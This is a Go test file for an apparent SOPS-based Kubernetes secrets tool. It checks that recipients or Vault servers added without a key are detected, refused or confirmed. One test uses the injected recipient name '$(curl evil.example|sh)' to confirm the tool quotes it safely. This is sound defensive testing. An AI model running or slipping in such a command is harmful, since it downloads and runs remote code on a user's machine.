package fn_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"
	"sigs.k8s.io/kustomize/kyaml/yaml"

	"github.com/secretwright/secretwright/fn"
	"github.com/secretwright/secretwright/internal/report"
)

// addRecipient does what somebody without a key can: it copies an entry of the sops block under another recipient.
func addRecipient(t *testing.T, document, recipient string) string {
	t.Helper()
	node := yaml.MustParse(document)
	entries, err := node.Pipe(yaml.Lookup("sops", "age"))
	if err != nil || entries == nil {
		t.Fatalf("no age entries: %v", err)
	}
	entry := entries.Copy().Content()[0]
	if err := yaml.NewRNode(entry).PipeE(yaml.SetField("recipient", yaml.NewStringRNode(recipient))); err != nil {
		t.Fatal(err)
	}
	entries.YNode().Content = append(entries.YNode().Content, entry)
	return node.MustString()
}

func (w *workshop) tamper(name, recipient string) {
	w.t.Helper()
	w.write(name, addRecipient(w.t, string(read(w.t, w.dir, name)), recipient))
}

// unlisted takes the .sops.yaml away, which would vouch for the recipients it lists.
func (w *workshop) unlisted() {
	w.t.Helper()
	if err := os.Remove(filepath.Join(w.dir, ".sops.yaml")); err != nil {
		w.t.Fatal(err)
	}
}

// refuses checks that a run is refused for its recipients, and that nothing is encrypted for anybody.
func (w *workshop) refuses(spec string, former []string, parts ...string) {
	w.t.Helper()
	secrets, stderr, status := w.render(spec, former...)
	if status != 1 {
		w.t.Errorf("status %d: %s", status, stderr)
	}
	for _, part := range parts {
		if !strings.Contains(stderr, part) {
			w.t.Errorf("it does not say %q:\n%s", part, stderr)
		}
	}
	if diff := cmp.Diff(former, secrets); diff != "" {
		w.t.Errorf("the Secrets changed (-in +out):\n%s", diff)
	}
}

// TestRecipientAddedToSource is a contributor without a key, who adds himself to a source: he gets nothing until he is
// confirmed by his name.
func TestRecipientAddedToSource(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(outputSpec)
	other := publicKey(t, "other")
	w.tamper("database.enc.yaml", other)
	w.refuses(outputSpec, []string{first},
		"error: secrets[0]: the Secret database would be encrypted for others than the last time: "+other+" added",
		"confirm it with --accept-recipients="+other)

	for _, wrong := range []string{publicKey(t, "test"), "age1", "", other + "x", "ALL"} {
		t.Setenv(fn.AcceptRecipientsEnv, wrong)
		w.refuses(outputSpec, []string{first}, other+" added")
	}
	for _, right := range []string{other, "age1x," + other, fn.AcceptAll} {
		t.Setenv(fn.AcceptRecipientsEnv, right)
		secrets, stderr, status := w.render(outputSpec, first)
		if status != 0 || !strings.Contains(secrets[0], other) || !strings.Contains(stderr,
			"warning: secrets[0]: the Secret database is encrypted for others than the last time") {
			t.Errorf("%s: status %d\n%s", right, status, stderr)
		}
		t.Setenv(fn.AcceptRecipientsEnv, "")
		if again := w.one(outputSpec, secrets[0]); again != secrets[0] {
			t.Error("what was confirmed once is not settled")
		}
	}
}

// TestRecipientIsACommand has a recipient whose name a shell would run, if the flag that confirms him were pasted.
func TestRecipientIsACommand(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(outputSpec)
	w.tamper("database.enc.yaml", "$(curl evil.example|sh)")
	w.refuses(outputSpec, []string{first}, "confirm it with --accept-recipients='$(curl evil.example|sh)'")
}

// TestRecipientAddedToSourceAndOutput has him add himself to the last output as well, so that no list differs.
func TestRecipientAddedToSourceAndOutput(t *testing.T) {
	w := newWorkshop(t)
	other := publicKey(t, "other")
	forged := addRecipient(t, w.one(outputSpec), other)
	w.tamper("database.enc.yaml", other)
	w.refuses(outputSpec, []string{forged}, "would be encrypted for",
		"the last output does not prove that it was made for them, from these sources")

	// With another one to distract, all of them need to be confirmed.
	third := "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p"
	w.tamper("database.enc.yaml", third)
	t.Setenv(fn.AcceptRecipientsEnv, third)
	w.refuses(outputSpec, []string{forged}, third+" added")
}

// TestRecipientAddedToOutput leaves the source alone: what he added goes, and nothing he knows is used.
func TestRecipientAddedToOutput(t *testing.T) {
	w := newWorkshop(t)
	forged := addRecipient(t, w.one(outputSpec), publicKey(t, "other"))
	secrets, stderr, status := w.render(outputSpec, forged)
	if status != 0 || strings.Contains(secrets[0], publicKey(t, "other")) || !strings.Contains(stderr, publicKey(t,
		"other")+" gone") {
		t.Errorf("status %d\n%s", status, stderr)
	}
	w.unlisted()
	w.refuses(outputSpec, []string{forged}, publicKey(t, "other")+" gone")
}

func TestRecipientGone(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(strings.Replace(outputSpec, "sops: {}", "sops: {age: ["+publicKey(t, "test")+", "+publicKey(t,
		"other")+"]}", 1))
	w.unlisted()
	w.refuses(outputSpec, []string{first}, publicKey(t, "other")+" gone")
	t.Setenv(fn.AcceptRecipientsEnv, publicKey(t, "other"))
	if secrets, stderr, status := w.render(outputSpec, first); status != 0 || strings.Contains(secrets[0],
		publicKey(t, "other")) {
		t.Errorf("status %d\n%s", status, stderr)
	}
}

// TestRecipientsListedInRules has .sops.yaml list the new recipient, where a review sees it.
func TestRecipientsListedInRules(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(outputSpec)
	w.write(".sops.yaml", "creation_rules: [{age: '"+publicKey(t, "test")+","+publicKey(t, "other")+"'}]\n")
	w.sops("updatekeys", "-y", "database.enc.yaml")
	secrets, stderr, status := w.render(outputSpec, first)
	if status != 0 || !strings.Contains(secrets[0], publicKey(t, "other")) || !strings.Contains(stderr, publicKey(t,
		"other")+" added") {
		t.Errorf("status %d\n%s", status, stderr)
	}
}

// TestRecipientsAfterRotation has the data key of a source change: nothing proves any more for whom the last output
// was made.
func TestRecipientsAfterRotation(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(outputSpec)
	w.sops("rotate", "-i", "database.enc.yaml")
	if _, stderr, status := w.render(outputSpec, first); status != 0 || !strings.Contains(stderr,
		"is encrypted anew") {
		t.Errorf("status %d\n%s", status, stderr)
	}
	w.unlisted()
	w.refuses(outputSpec, []string{first}, "does not prove that it was made for them")
}

func TestRecipientsListedInTheSpec(t *testing.T) {
	w := newWorkshop(t)
	w.unlisted()
	first := w.one(outputSpec)
	w.tamper("database.enc.yaml", publicKey(t, "other"))
	listed := strings.Replace(outputSpec, "sops: {}", "sops: {age: ["+publicKey(t, "test")+"]}", 1)
	if secret := w.one(listed, first); strings.Contains(secret, publicKey(t, "other")) || secret != first {
		t.Error("what a source says counts, though the SecretSpec lists the recipients")
	}
}

func TestFirstOutputSaysForWhom(t *testing.T) {
	w := newWorkshop(t)
	root, err := os.OpenRoot(w.dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close() //nolint:errcheck // read only
	filter := fn.Filter{Root: root, FunctionConfig: yaml.MustParse(outputSpec)}
	result, err := filter.Run(context.Background(), nil)
	if err != nil {
		t.Fatal(err, result.Findings)
	}
	var said []string
	for _, f := range result.Findings {
		if f.Code == report.EncryptedFor && f.Severity == report.Info {
			said = append(said, f.Message)
		}
	}
	want := []string{"the Secret database is encrypted for the first time, for " + publicKey(t, "test")}
	if diff := cmp.Diff(want, said); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	w.unlisted()
	if _, stderr, _ := w.render(outputSpec); !strings.Contains(stderr, "warning: secrets[0]: "+want[0]+
		", as its sources say; read the list") {
		t.Errorf("where only the sources list them, it is no warning: %s", stderr)
	}
	access := result.Accesses[0]
	if diff := cmp.Diff([]string{publicKey(t, "test")}, access.Recipients); diff != "" {
		t.Errorf("recipients (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"database.enc.yaml"}, access.Sources); diff != "" {
		t.Errorf("sources (-want +got):\n%s", diff)
	}
}

// TestCheckSeesRecipients needs no key to see that a recipient was added, in the output or against .sops.yaml.
func TestCheckSeesRecipients(t *testing.T) {
	w := newWorkshop(t)
	first := w.one(outputSpec)
	other := publicKey(t, "other")
	w.tamper("database.enc.yaml", other)
	root, err := os.OpenRoot(w.dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close() //nolint:errcheck // read only
	t.Setenv("SOPS_AGE_KEY", "")
	filter := fn.Filter{Root: root, FunctionConfig: yaml.MustParse(outputSpec), Keyless: true}
	result, err := filter.Run(context.Background(), []*yaml.RNode{yaml.MustParse(first)})
	codes := map[report.Code]string{}
	for _, f := range result.Findings {
		codes[f.Code] = f.Text()
	}
	if err == nil || !strings.Contains(codes[report.RecipientsChanged], other+" added") {
		t.Errorf("%v: %v", err, codes)
	}
	if !strings.Contains(codes[report.UnlistedRecipient], other) || !strings.Contains(codes[report.ReadableBy],
		other) {
		t.Errorf("%v", codes)
	}
}

// TestServerOfADocument is a server that somebody without a key adds to a source: it gets no request, not even when
// all recipients are accepted, until the environment allows it.
func TestServerOfADocument(t *testing.T) {
	w := newWorkshop(t)
	var asked atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, _ *http.Request) {
		asked.Add(1)
		_, _ = out.Write([]byte(`{"data":{"ciphertext":"vault:v1:x"}}`))
	}))
	defer server.Close()
	t.Setenv("VAULT_TOKEN", "a-token")
	first := w.one(outputSpec)
	text := string(read(t, w.dir, "database.enc.yaml"))
	entry := "sops:\n    hc_vault:\n        - vault_address: " + server.URL +
		"\n          engine_path: sops\n          key_name: mine\n          created_at: \"2026-01-01T00:00:00Z\"\n          enc: junk\n"
	w.write("database.enc.yaml", strings.Replace(text, "sops:\n", entry, 1))
	w.refuses(outputSpec, []string{first}, server.URL+"/v1/sops/keys/mine added")
	t.Setenv(fn.AcceptRecipientsEnv, fn.AcceptAll)
	w.refuses(outputSpec, []string{first}, "the server "+server.URL+
		" was not asked, since the environment does not allow it; if it is yours, set VAULT_ADDR")
	if asked.Load() != 0 {
		t.Error("the server was asked")
	}
	t.Setenv("VAULT_ADDR", server.URL)
	if secrets, stderr, status := w.render(outputSpec, first); status != 0 || !strings.Contains(secrets[0],
		"vault:v1:x") || asked.Load() == 0 {
		t.Errorf("status %d, asked %d times\n%s", status, asked.Load(), stderr)
	}
}

// TestExampleRecipient holds the examples' key to the examples.
func TestExampleRecipient(t *testing.T) {
	const example = "age1faylnuq73etc3zz679mtdxsrtxtzz5hsmvt5ssvfxtsnd39h53nqx9dp2d"
	w := newWorkshop(t)
	w.write("rules.yaml", "")
	spec := strings.Replace(outputSpec, "sops: {}", "sops: {age: ["+publicKey(t, "test")+", "+example+"]}", 1)
	w.refuses(spec, nil, "is that of Secretwright's examples, and everybody has its key; make a key of your own")
	own := "apiVersion: secretwright.dev/v1alpha1\nkind: SecretSpec\nmetadata: {name: shop}\nsecrets: [{name: a, data: {b: {value: c}}}]\n"
	w.write(".sops.yaml", "creation_rules: [{age: "+example+"}]\n")
	w.write("spec.yaml", own)
	if out, err := fn.EncryptSpec(t.Context(), []byte(own), filepath.Join(w.dir, "spec.yaml")); err == nil ||
		!strings.Contains(err.Error(), "examples") {
		t.Errorf("%v: %s", err, out)
	}
	t.Setenv("SECRETWRIGHT_EXAMPLE_KEY", "1")
	if _, err := fn.EncryptSpec(t.Context(), []byte(own), filepath.Join(w.dir, "spec.yaml")); err != nil {
		t.Error(err)
	}
	w.one(spec)
}

// TestSeveralNamespaces has references by hand in two namespaces, which must not spread a Secret by its name, with keys
// and without.
func TestSeveralNamespaces(t *testing.T) {
	var nodes []*yaml.RNode
	for _, namespace := range []string{"shop", "auth"} {
		nodes = append(nodes, yaml.MustParse("apiVersion: v1\nkind: Pod\nmetadata: {name: web, namespace: "+namespace+
			"}\nspec: {containers: [{name: app, image: a, envFrom: [{secretRef: {name: database}}]}]}\n"))
	}
	spec := yaml.MustParse("apiVersion: secretwright.dev/v1alpha1\nkind: SecretSpec\nmetadata: {name: shop}\n" +
		"secrets: [{name: database, data: {user: {value: shop}}}]\n")
	for _, keyless := range []bool{false, true} {
		filter := fn.Filter{FunctionConfig: spec, Keyless: keyless}
		result, err := filter.Run(context.Background(), nodes)
		if err == nil || len(result.Findings) != 1 || result.Findings[0].Code != report.SeveralNamespaces {
			t.Errorf("keyless %v: %v: %v", keyless, err, result.Findings)
		}
	}
}
